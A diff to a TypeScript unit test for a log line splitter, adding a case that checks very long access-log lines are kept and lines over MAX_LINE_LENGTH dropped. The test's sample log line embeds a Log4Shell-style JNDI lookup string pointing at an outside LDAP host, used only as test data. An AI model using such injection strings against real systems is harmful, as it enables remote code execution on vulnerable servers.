@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { sanitize } from '../../lambdas/core/escape.js';
-import { LineSplitter, looksBinary } from '../../lambdas/core/lines.js';
+import { LineSplitter, MAX_LINE_LENGTH, looksBinary } from '../../lambdas/core/lines.js';
 
 function split(chunks: string[], max?: number) {
   const lines: string[] = [];
@@ -42,6 +42,17 @@ describe('line splitting', () => {
     assert.deepEqual(split(['a\r', '\nb']).lines, ['a', 'b']);
     assert.deepEqual(split(['a\r', '', '\nb']).lines, ['a', 'b'], 'an empty chunk in between');
     assert.deepEqual(split(['a\r', 'b\r', '\r', '\n']).lines, ['a', 'b', '']);
+  });
+  it(`keeps a request with two 8 KB headers of escaped control bytes (65,622 characters); drops one over MAX_LINE_LENGTH (${MAX_LINE_LENGTH})`, () => {
+    const escaped = '\\x01'.repeat(8190);
+    const attack = `198.51.100.7 - - [01/Mar/2024:00:00:00 +0000] "GET /?x=\${jndi:ldap://192.0.2.1/a} HTTP/1.1" 404 5 "${escaped}" "${escaped}"`;
+    assert.ok(attack.length > 65_536);
+    const kept = split([`${attack}\n`]);
+    assert.deepEqual(kept.lines, [attack]);
+    const over = split([`${'C'.repeat(MAX_LINE_LENGTH + 1)}\nnext\n`]);
+    assert.deepEqual(over.lines, ['next']);
+    assert.equal(over.overlong.length, 1);
+    assert.deepEqual(split([`${'C'.repeat(MAX_LINE_LENGTH)}\n`]).lines.map((l) => l.length), [MAX_LINE_LENGTH]);
   });
   it('reports an overlong line that arrives in one chunk', () => {
     const { lines, overlong } = split([`${'B'.repeat(200)}\nz`], 100);
